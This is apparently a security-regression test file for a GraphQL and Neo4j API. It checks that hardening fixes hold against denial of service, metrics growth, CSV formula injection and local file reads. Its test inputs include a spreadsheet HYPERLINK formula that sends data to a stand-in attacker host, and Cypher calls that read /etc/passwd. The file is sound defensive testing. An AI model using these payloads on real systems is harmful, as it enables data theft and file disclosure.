/**
 * The findings of the attack on the server (issue "Hardening"), each reproduced as it was found and
 * answered as it must be now: cheap denials of service refused before Neo4j, metrics that cannot
 * grow, no request hidden from logs, spreadsheet-safe CSV, bounded exports, a local Neo4j that other
 * web pages cannot use, and coded errors where there were uncoded ones.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import neo4j from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productionProblems } from '../src/config.js';
import { Admission } from '../src/graph/admission.js';
import { listCsv, safeText, type ExportList } from '../src/exports/lists.js';
import { PROJECT_ROOT } from '../src/paths.js';
import { graphCounts } from '../src/graph/seeds/load.js';
import { captureLogs, startTestApi, untilReady, type TestApi } from './support/api.js';
import { testConfig, TEST_NEO4J, TEST_PASSWORD, TEST_URI } from './support/test-env.js';

let api: TestApi;
const logs = captureLogs();
beforeAll(async () => {
  api = await startTestApi({}, 0, undefined, logs.logger);
});
afterAll(() => api.close());

async function post(body: unknown, headers: Record<string, string> = {}) {
  const started = performance.now();
  const res = await fetch(`${api.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  const json = (await res.json()) as { data?: any; errors?: Array<{ message: string; extensions?: Record<string, any> }> };
  return { status: res.status, body: json, error: json.errors?.[0], ms: performance.now() - started, headers: res.headers };
}

function nestedNot(levels: number): Record<string, unknown> {
  let where: Record<string, unknown> = { name: { eq: 'x' } };
  for (let i = 0; i < levels; i++) where = { NOT: where };
  return where;
}

describe('1. nested NOT', () => {
  it('refuses 400 nested NOTs (3 kB) with BAD_USER_INPUT in under 50 ms, before GraphQL runs', async () => {
    const query = 'query Nested($w: ProductWhere) { products(where: $w) { totalCount } }';
    const variables = { w: nestedNot(400) };
    expect(JSON.stringify(variables).length).toBeLessThan(4_000);
    const times: number[] = [];
    for (let i = 0; i < 5; i++) {
      const { status, error, ms } = await post({ query, variables });
      expect({ status, code: error?.extensions?.code }).toEqual({ status: 400, code: 'BAD_USER_INPUT' });
      expect(error?.message).toContain('nests objects and lists more than 64 deep');
      times.push(ms);
    }
    expect(times.sort((a, b) => a - b)[2]).toBeLessThan(50);
  });

  it('refuses 9 nested NOTs, in a literal or a variable, without a Neo4j round trip', async () => {
    const literal = `{ products(where: ${'{NOT: '.repeat(9)}{name: {eq: "x"}}${'}'.repeat(9)}) { totalCount } }`;
    for (const [i, body] of [{ query: literal }, { query: 'query($w: ProductWhere) { products(where: $w) { totalCount } }', variables: { w: nestedNot(9) } }].entries()) {
      const reqId = `not-${i}`;
      const { error, ms } = await post(body, { 'x-request-id': reqId });
      expect(error?.extensions?.code).toBe('BAD_USER_INPUT');
      expect(error?.message).toContain('nests AND, OR and NOT at most 8 deep');
      expect(logs.lines.find((l) => l.reqId === reqId && l.msg === 'graphql')).toMatchObject({ roundTrips: 0 });
      expect(ms).toBeLessThan(200);
    }
  });

  it('counts every AND, OR and NOT toward the 50 conditions', async () => {
    const where = { AND: Array.from({ length: 30 }, (_, i) => ({ NOT: { name: { eq: `n${i}` } } })) };
    const { error } = await post({ query: 'query($w: ProductWhere) { products(where: $w) { totalCount } }', variables: { w: where } });
    expect(error?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(error?.message).toContain('at most 50 conditions');
  });

  it('refuses a body nested 5,000 deep (35 kB) before GraphQL coerces it', async () => {
    // Written out: the test's own JSON.stringify would recurse as deep.
    const w = `${'{"NOT":'.repeat(5_000)}{"name":{"eq":"x"}}${'}'.repeat(5_000)}`;
    const body = `{"query":"query($w: ProductWhere) { products(where: $w) { totalCount } }","variables":{"w":${w}}}`;
    const started = performance.now();
    const res = await fetch(`${api.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    expect({ status: res.status, body: await res.json() }).toMatchObject({ status: 400, body: { errors: [{ extensions: { code: 'BAD_USER_INPUT' } }] } });
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('still answers a where with a few nested NOTs', async () => {
    const { body } = await post({ query: 'query($w: ProductWhere) { products(where: $w) { totalCount } }', variables: { w: nestedNot(3) } });
    expect(body).toMatchObject({ data: { products: { totalCount: 6 } } });
  });
});

describe('2. /metrics cannot grow', () => {
  it('labels 200 refused requests with a 45 kB operationName as not executed: /metrics stays small', async () => {
    const before = (await (await fetch(`${api.url}/metrics`)).text()).length;
    const name = `Op${'x'.repeat(45_000)}`;
    for (let i = 0; i < 200; i++) {
      const { status } = await post({ query: '{ __typename }', operationName: `${name}${i}` });
      expect(status).toBe(400);
    }
    const text = await (await fetch(`${api.url}/metrics`)).text();
    expect(text.length - before).toBeLessThan(20_000);
    expect(text.split('\n').filter((l) => l.startsWith('graphql_requests_total')).join('\n')).toContain('operation="(not executed)"');
    expect(text).not.toContain('xxxxxxxxxx');
  });

  it('gives an executed operation with an overlong name the shared label', async () => {
    const name = `Long${'y'.repeat(100)}`;
    expect((await post({ query: `query ${name} { __typename }` })).status).toBe(200);
    const text = await (await fetch(`${api.url}/metrics`)).text();
    expect(text).not.toContain('yyyyyyyyyy');
    expect(text).toMatch(/graphql_requests_total\{operation="\(other\)",outcome="ok"\}/);
  });

  it('is closed on the API port in production unless METRICS_TOKEN is given, and can have a port of its own', async () => {
    const prod = await startTestApi({ env: 'production' });
    const token = await startTestApi({ metricsToken: 'scrape-secret-1' });
    const own = await startTestApi({ metricsPort: 0 });
    try {
      const closed = await fetch(`${prod.url}/metrics`);
      expect(closed.status).toBe(403);
      expect(await closed.json()).toMatchObject({ errors: [{ extensions: { code: 'FORBIDDEN' } }] });
      expect((await fetch(`${token.url}/metrics`)).status).toBe(401);
      expect((await fetch(`${token.url}/metrics`, { headers: { authorization: 'Bearer wrong-secret-1' } })).status).toBe(401);
      expect((await fetch(`${token.url}/metrics`, { headers: { authorization: 'Bearer scrape-secret-1' } })).status).toBe(200);
      const port = (own.app.metricsServer!.address() as { port: number }).port;
      expect((await fetch(`http://127.0.0.1:${port}/metrics`)).status).toBe(200);
      expect((await fetch(`${own.url}/metrics`)).status).toBe(404);
    } finally {
      await Promise.all([prod.close(), token.close(), own.close()]);
    }
  });
});

describe('3. no request hides from logs and metrics', () => {
  it('logs and counts a request that calls itself warm-up', async () => {
    const count = async () => Number(/graphql_requests_total\{operation="Hidden",outcome="ok"\} (\d+)/.exec(await (await fetch(`${api.url}/metrics`)).text())?.[1] ?? 0);
    const before = await count();
    expect((await post({ query: 'query Hidden { __typename }' }, { 'x-request-id': 'warm-up' })).status).toBe(200);
    expect(await count()).toBe(before + 1);
    expect(logs.lines.some((l) => l.reqId === 'warm-up' && l.operation === 'Hidden' && l.level === 30)).toBe(true);
  });
});

describe('4. CSV cells a spreadsheet will not run', () => {
  it('neutralises formula-leading text and drops control characters; numbers pass', async () => {
    expect(safeText('=HYPERLINK("http://evil.example/?leak="&A1,"x")')).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"x")`);
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(safeText(`${lead}1+1`)).toBe(`'${lead}1+1`);
    expect(safeText('a\u0000b\u0007c')).toBe('abc');
    expect(safeText('CAR-T, 2024')).toBe('CAR-T, 2024');
    const list = { name: 'targets', field: { args: [] }, columns: ['id', 'name', 'value'] } as unknown as ExportList;
    const { csv } = await listCsv(list, {}, async () => ({
      data: { targets: { pageInfo: { hasNextPage: false, endCursor: null }, edges: [{ node: { id: 'target:x', name: '@SUM(A1)\u0000', value: -3, sources: [{ section: '=cmd', referenceNumber: 1 }] } }] } },
    }));
    // The source columns: section, quote, references, then document, sentence and link (none here).
    expect(csv.split('\n')[1]).toBe(`target:x,'@SUM(A1),-3,'=cmd,,1,,,`);
  });
});

describe('5. exports: bounded, coded, typed', () => {
  it('serves GraphML as application/graphml+xml', async () => {
    const res = await fetch(`${api.url}/export/graph.graphml`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/graphml+xml; charset=utf-8');
    await res.arrayBuffer();
  });

  it('frees the export place when a client stops reading and goes away', async () => {
    const controller = new AbortController();
    const first = await fetch(`${api.url}/export/graph.graphml`, { signal: controller.signal });
    expect(first.status).toBe(200);
    controller.abort();
    const started = performance.now();
    const next = await fetch(`${api.url}/export/graph.xlsx`);
    expect(next.status).toBe(200);
    await next.arrayBuffer();
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('builds one whole-graph export at a time, queues one, and refuses the rest with a coded 503', async () => {
    const answers = await Promise.all(Array.from({ length: 4 }, () => fetch(`${api.url}/export/graph.xlsx`)));
    const statuses = answers.map((r) => r.status).sort();
    await Promise.all(answers.filter((r) => r.status === 200).map((r) => r.arrayBuffer()));
    expect(statuses.filter((s) => s === 200).length).toBeGreaterThanOrEqual(2);
    const refused = answers.filter((r) => r.status !== 200);
    for (const r of refused) {
      expect(r.status).toBe(503);
      expect(r.headers.get('retry-after')).toBe('1');
      expect(await r.json()).toMatchObject({ errors: [{ extensions: { code: 'SERVICE_UNAVAILABLE', reason: 'overloaded' } }] });
    }
  });

  it('answers GraphML, XLSX and CSV with a coded 503 while Neo4j is unreachable', async () => {
    const down = await startTestApi({ neo4j: { ...testConfig().neo4j, queryTimeoutMs: 2_000 } }, 0, 'bolt://127.0.0.1:1');
    try {
      for (const path of ['graph.graphml', 'graph.xlsx', 'products.csv']) {
        const res = await fetch(`${down.url}/export/${path}`);
        expect(res.status, path).toBe(503);
        expect(await res.json(), path).toMatchObject({ errors: [{ extensions: { code: 'SERVICE_UNAVAILABLE' } }] });
      }
    } finally {
      await down.close();
    }
  });

  it('exports a search: /export/searchConnection.csv?text=BCMA', async () => {
    const res = await fetch(`${api.url}/export/searchConnection.csv?text=BCMA&kinds=PRODUCT`);
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split('\n');
    expect(lines.length).toBeGreaterThan(1);
    const missing = await fetch(`${api.url}/export/searchConnection.csv`);
    expect(missing.status).toBe(400);
    expect(await missing.json()).toMatchObject({ errors: [{ message: expect.stringContaining('"text" is required'), extensions: { code: 'BAD_USER_INPUT' } }] });
  });
});

describe('6, 7. the local Neo4j other web pages and procedures cannot use', () => {
  let driver: ReturnType<typeof neo4j.driver>;
  beforeAll(() => {
    driver = neo4j.driver(TEST_URI, neo4j.auth.basic('neo4j', TEST_PASSWORD));
  });
  afterAll(() => driver.close());
  const failure = async (text: string) => {
    const started = performance.now();
    try {
      await driver.executeQuery(text, {}, { transactionConfig: { timeout: 10_000 } } as never);
      return { code: 'none', ms: performance.now() - started };
    } catch (error) {
      return { code: (error as { code: string }).code, ms: performance.now() - started };
    }
  };

  it('answers no other origin on its HTTP endpoint', async () => {
    const res = await fetch(`http://127.0.0.1:${TEST_NEO4J.httpPort}/`, { headers: { origin: 'https://evil.example' } });
    expect(res.headers.get('access-control-allow-origin')).toBe(`http://127.0.0.1:${TEST_NEO4J.httpPort}`);
  });

  it('loads only the APOC procedures the project uses, and no file or URL reads', async () => {
    const { records } = await driver.executeQuery("SHOW PROCEDURES YIELD name WHERE name STARTS WITH 'apoc.' RETURN collect(name) AS names");
    expect([...(records[0].get('names') as string[])].sort()).toEqual(['apoc.export.csv.all', 'apoc.export.graphml.all', 'apoc.export.json.all', 'apoc.meta.schema']);
    expect((await failure("CALL apoc.cypher.run('RETURN 1', {})")).code).toBe('Neo.ClientError.Procedure.ProcedureNotFound');
    expect((await failure("CALL apoc.load.json('file:///etc/passwd')")).code).toBe('Neo.ClientError.Procedure.ProcedureNotFound');
    expect((await failure("CALL apoc.export.graphml.all('x.graphml', {})")).code).toBe('Neo.ClientError.Procedure.ProcedureCallFailed');
    expect((await failure("LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row")).code).toBe('Neo.ClientError.Statement.ExternalResourceFailed');
    const streamed = await driver.executeQuery('CALL apoc.export.graphml.all(null, {stream: true}) YIELD data RETURN size(data) > 1000 AS ok');
    expect(streamed.records[0].get('ok')).toBe(true);
  });

  it('does not hang on LOAD CSV from an address that never answers', async () => {
    const silent: Server = createServer(() => {}).listen(0, '127.0.0.1');
    await new Promise((r) => silent.once('listening', r));
    try {
      const { code, ms } = await failure(`LOAD CSV FROM 'http://127.0.0.1:${(silent.address() as { port: number }).port}/x.csv' AS row RETURN row`);
      expect(code).not.toBe('none');
      expect(ms).toBeLessThan(8_000);
    } finally {
      silent.close();
    }
  });
});

describe('8. coded errors where there were none', () => {
  it('answers a mutation or a subscription with a validation error, not an internal one', async () => {
    for (const query of ['mutation { addFact }', 'subscription { changes }']) {
      const { status, error } = await post({ query });
      expect({ status, code: error?.extensions?.code }).toEqual({ status: 400, code: 'GRAPHQL_VALIDATION_FAILED' });
    }
    expect(logs.lines.filter((l) => l.msg === 'internal error')).toEqual([]);
  });

  it('answers a broken deflate body 400 and an unknown path with a JSON 404', async () => {
    const broken = Buffer.concat([deflateSync(Buffer.from('{"query":"{ __typename }"}')).subarray(0, 8), Buffer.from('garbage')]);
    const res = await fetch(`${api.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', 'content-encoding': 'deflate' }, body: broken });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ errors: [{ extensions: { code: 'BAD_REQUEST' } }] });
    const unknown = await fetch(`${api.url}/no/such/path`);
    expect(unknown.status).toBe(404);
    expect(unknown.headers.get('content-type')).toContain('application/json');
    expect(await unknown.json()).toMatchObject({ errors: [{ extensions: { code: 'NOT_FOUND' } }] });
  });

  it('answers / with a page linking the explore pages, the explorers and the export index, which links every export', async () => {
    const home = await fetch(`${api.url}/`);
    expect(home.status).toBe(200);
    const html = await home.text();
    for (const href of ['/explore/timeline', '/explore/graph', '/graphiql', '/graphql', '/export', '/browser/']) expect(html).toContain(href);
    const index = await (await fetch(`${api.url}/export`)).text();
    for (const href of ['/export/graph.xlsx', '/export/graph.graphml', '/export/products.csv', '/export/references.csv']) expect(index).toContain(`href="${href}"`);
  });

  it('refuses well-known and short Neo4j passwords in production', () => {
    const config = testConfig();
    const auth = { ...config.auth, jwksUrl: 'https://idp.example/jwks.json', issuer: 'https://idp.example', audience: 'cell-therapy-kg' };
    const problems = (password: string) => productionProblems({ ...config, auth, env: 'production', neo4j: { ...config.neo4j, password } });
    for (const weak of ['neo4j', 'password', 'Changeme', 'cell-therapy-kg']) expect(problems(weak), weak).toHaveLength(1);
    expect(problems('short-pw')).toEqual([expect.stringContaining('at least 12')]);
    expect(problems('a-long-own-passphrase')).toEqual([]);
  });

  /** Runs a command-line script as a user would. */
  function script(name: string, args: string[], env: Record<string, string>) {
    return spawnSync(process.execPath, [join(PROJECT_ROOT, 'node_modules', 'tsx', 'dist', 'cli.mjs'), `scripts/${name}.ts`, ...args], {
      cwd: PROJECT_ROOT,
      env: { ...process.env, ...env },
      encoding: 'utf8',
    });
  }

  it('says in one line, without a stack, that the Bolt port is taken by another process', async () => {
    const squatter: Server = createServer(() => {}).listen(0, '127.0.0.1');
    await new Promise((r) => squatter.once('listening', r));
    try {
      const port = String((squatter.address() as { port: number }).port);
      const result = script('import', ['seeds', '--dry-run'], { NEO4J_URI: '', NEO4J_LOCAL_BOLT_PORT: port, NEO4J_LOCAL_HOME: mkdtempSync(join(tmpdir(), 'ctkg-cli-')), NEO4J_PASSWORD: 'unused-password' });
      expect(result.status).toBe(1);
      expect(result.stderr.trim()).toBe(`Port ${port} is taken by a process this project did not start. Stop it, or set NEO4J_URI to use it.`);
    } finally {
      squatter.close();
    }
  });

  it('--reset --dry-run says what it would delete, and changes nothing', async () => {
    const before = await graphCounts(api.executor);
    const result = script('import', ['seeds', '--reset', '--dry-run'], { NEO4J_URI: TEST_URI, NEO4J_PASSWORD: TEST_PASSWORD });
    expect(result.status, result.stderr).toBe(0);
    const nodes = Object.values(before.nodes).reduce((a, b) => a + b, 0);
    const relationships = Object.values(before.relationships).reduce((a, b) => a + b, 0);
    expect(result.stdout).toContain(`Dry run: --reset would first delete every node of the database: ${nodes} (`);
    expect(result.stdout).toContain(`and its ${relationships} relationships`);
    expect(await graphCounts(api.executor)).toEqual(before);
  });
});

describe('9. readiness does not depend on the data', () => {
  it('turns ready on a graph where an example finds nothing', async () => {
    const rename = (from: string, to: string) => api.executor.transaction('WRITE', 'test.rename', (tx) => tx.run('MATCH (n:Entity {id: $from}) SET n.id = $to', { from, to }));
    await rename('reform:2018-implicit-approval', 'reform:renamed-for-test');
    try {
      const fresh = await startTestApi();
      try {
        expect(await untilReady(fresh.url, 60_000)).toEqual({ status: 200, body: { status: 'ready' } });
      } finally {
        await fresh.close();
      }
    } finally {
      await rename('reform:renamed-for-test', 'reform:2018-implicit-approval');
    }
  });

  it('plans the statements the traffic used again, with EXPLAIN', async () => {
    await api.post('{ sponsors(first: 3) { edges { node { name products { name } } } } }');
    expect(await api.executor.warmRecent()).toBeGreaterThan(0);
  });

  it('after an outage, opens every place only when the recovery (Neo4j answers, plans warmed) is done, and lets requests wait longer meanwhile', async () => {
    let finish!: () => void;
    const admission = new Admission(4, 10, 50, 2_000);
    admission.recoverWith(() => new Promise<void>((done) => (finish = done)));
    admission.recovering();
    let release!: () => void;
    const first = admission.run(() => new Promise<void>((done) => (release = done)));
    // One place while recovering; a second request waits past the normal 50 ms.
    const second = admission.run(async () => 'second');
    await new Promise((r) => setTimeout(r, 150));
    expect(admission.inFlight).toBe(1);
    admission.recovered(); // a success during the recovery does not open the places
    expect(admission.queued).toBe(1);
    finish();
    await expect(second).resolves.toBe('second');
    release();
    await first;
    // Recovered: every place open, and the normal wait again.
    const held = Array.from({ length: 4 }, () => admission.run(() => new Promise((r) => setTimeout(r, 200))));
    await expect(admission.run(async () => 'late')).rejects.toThrow('no place within 50 ms');
    await Promise.all(held);
  });
});
